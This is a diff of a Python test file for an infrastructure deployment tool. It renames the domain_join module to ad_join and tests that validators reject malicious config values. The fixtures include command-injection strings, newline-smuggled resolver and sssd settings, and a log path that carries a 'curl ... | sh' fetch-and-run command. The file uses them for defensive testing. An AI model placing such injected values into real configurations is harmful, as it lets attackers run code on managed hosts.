@@ -13,7 +13,7 @@ import pytest
 from click.testing import CliRunner
 from conftest import INVENTORY
 
-from deploys import ca_trust, domain_join, nginx, pg_auth
+from deploys import ad_join, ca_trust, nginx, pg_auth
 from hxinfra import vault
 from hxinfra.cli import main
 from hxinfra.datafiles import parse_extra_vars
@@ -76,7 +76,7 @@ def test_plain_pyinfra_debug_inventory_masks_every_vault_value(nested_vault):
 def test_a_vaulted_non_pem_value_is_never_read_as_a_path_nor_printed(project):
     secret = vault.Secret("NotAPemKeyButSecret-Juliet")
     with pytest.raises(HxError) as e:
-        ca_trust.resolve_host_certs({"ca_trust_host_certs": [{"name": "x", "cert": secret, "key": secret}]})
+        ca_trust.config.resolve_host_certs({"ca_trust_host_certs": [{"name": "x", "cert": secret, "key": secret}]})
     assert "never read as a file path" in str(e.value) and "Juliet" not in str(e.value)
 
 
@@ -165,12 +165,12 @@ HOSTILE = ["$(touch /tmp/PWNED)", "a;b", "`id`", "x'y", 'x"y', "a\nb"]
          "is not one of"),
         (pg_auth, "pg_auth_roles", [{"name": "hx_app\n"}], "must match"),
         (pg_auth, "pg_auth_roles", [{"name": "hx_app", "connection_limit": "lots"}], "connection_limit"),
-        (domain_join, "ad_join_sudo_rules", [{"group": "ops,ALL", "commands": "ALL"}], "not a valid name"),
-        (domain_join, "ad_join_sudo_rules", [{"group": "ops", "comands": "/bin/true"}], "unknown field"),
-        (domain_join, "ad_join_dns_servers", ["10.0.0.1\nnameserver 6.6.6.6"], "one line"),
-        (domain_join, "ad_join_dns_servers", ["not-an-ip"], "not an IP address"),
-        (domain_join, "ad_join_domain", "x$(touch /tmp/PWNED)", "not a DNS name"),
-        (domain_join, "ad_join_default_shell", "/bin/bash\nad_gpo_access_control = disabled", "one line"),
+        (ad_join, "ad_join_sudo_rules", [{"group": "ops,ALL", "commands": "ALL"}], "not a valid name"),
+        (ad_join, "ad_join_sudo_rules", [{"group": "ops", "comands": "/bin/true"}], "unknown field"),
+        (ad_join, "ad_join_dns_servers", ["10.0.0.1\nnameserver 6.6.6.6"], "one line"),
+        (ad_join, "ad_join_dns_servers", ["not-an-ip"], "not an IP address"),
+        (ad_join, "ad_join_domain", "x$(touch /tmp/PWNED)", "not a DNS name"),
+        (ad_join, "ad_join_default_shell", "/bin/bash\nad_gpo_access_control = disabled", "one line"),
         (ca_trust, "ca_trust_log_dir", "/var/log/hx; curl -s http://x | sh #", "must be an absolute path"),
         (ca_trust, "ca_trust_host_certs", [{"name": "w", "cert": "c", "key": "k", "key_mode": "0644"}], "key_mode"),
     ],
